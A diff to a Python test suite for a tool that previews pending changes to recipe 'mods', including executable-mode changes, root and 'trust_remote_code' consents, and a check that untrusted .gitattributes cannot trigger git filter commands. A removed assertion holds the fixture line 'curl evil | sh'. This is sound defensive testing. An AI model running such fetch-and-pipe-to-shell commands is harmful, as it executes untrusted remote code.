@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -58,7 +59,7 @@ def test_pending_changes_end_with_their_own_code(
     assert (done.returncode, done.stdout[:21]) == (0, "birds is up to date (")
 
 
-def test_a_mods_code_is_shown_also_under_a_name_of_ours_or_with_another_mode(
+def test_a_mods_file_is_shown_also_under_a_name_of_ours_or_with_another_mode(
     run: Run, birds: Path
 ) -> None:
     mod = birds / "mods/fix-owl"
@@ -69,9 +70,11 @@ def test_a_mods_code_is_shown_also_under_a_name_of_ours_or_with_another_mode(
     said = pending(run)
     assert "mods/fix-owl/sub" not in said
     assert "1 x a name of ours" in said
-    assert "  ~ mods/fix-owl/run.sh\n      it is executable now\n      + curl evil | sh\n" in said
-    assert "      used by recipes/theirs.yaml\n" in said
-    assert "  + mods/fix-owl/help.sh\n      + a\n" in said
+    assert re.search(r"^  mods/fix-owl/help.sh +\| +1 \+$", said, re.MULTILINE), said
+    assert re.search(r"^  mods/fix-owl/run.sh +\| +\d \+", said, re.MULTILINE), said
+    assert "  mode change 100644 => 100755 mods/fix-owl/run.sh\n" in said
+    assert "  create mode 100644 mods/fix-owl/help.sh\n" in said
+    assert "  2 files changed, " in said
 
 
 def test_new_consents_come_first_and_whole(run: Run, birds: Path) -> None:
@@ -80,13 +83,39 @@ def test_new_consents_come_first_and_whole(run: Run, birds: Path) -> None:
     write(birds, {f"mods/{folder}/y/run.sh": "true\n", "mods/z/run.sh": "true\n"})
     commit(birds, {"recipes/theirs.yaml": changed})
     lines = pending(run).splitlines()
-    at = lines.index("  ~ recipes/theirs.yaml")
+    at = next(at for at, line in enumerate(lines) if " -> " in line)
     new = lines[at + 1 : at + 3]
-    assert all(line.startswith("      + consent: ") for line in new)
+    assert all(line.startswith("  + consent: recipes/theirs.yaml: mods: ") for line in new)
     assert any(f"mods/{folder}/y: a mod runs as root" in line for line in new)
     run("recipe", "source", "update", "-y")
     commit(birds, {"recipes/theirs.yaml": THEIRS})
-    assert "      - consent: " in pending(run)
+    assert "  - consent: recipes/theirs.yaml: mods: " in pending(run)
+
+
+def test_consents_that_a_recipe_inherits_are_named(run: Run, birds: Path) -> None:
+    child = "schema: 1\nname: child\ntitle: t\nextends: owl\n"
+    commit(birds, {"recipes/child.yaml": child})
+    assert run("recipe", "source", "update", "-y").returncode == 0
+    owl = recipe("owl").replace("4096}", "4096, trust_remote_code: true}")
+    commit(birds, {"recipes/owl.yaml": owl})
+    said = pending(run)
+    assert "  + consent: recipes/child.yaml: serve.trust_remote_code: " in said
+    assert "recipes/child.yaml |" not in said
+
+
+@pytest.mark.outside
+def test_attributes_of_a_stranger_start_no_filter(
+    run: Run, birds: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    mark = tmp_path / "ran"
+    config = f'[filter "x"]\n\tclean = "touch {mark}"\n[diff "x"]\n\ttextconv = "touch {mark};"\n'
+    (tmp_path / "gitconfig").write_text(config)
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
+    attributes = "* filter=x diff=x\n"
+    commit(birds, {"mods/fix-owl/.gitattributes": attributes, "mods/fix-owl/a": "1\n"})
+    mark.unlink(missing_ok=True)  # the stranger's own commit may run it
+    assert "mods/fix-owl/a" in pending(run)
+    assert not mark.exists()
 
 
 def test_names_and_keys_of_strangers_are_shown_on_one_line(run: Run, birds: Path) -> None:
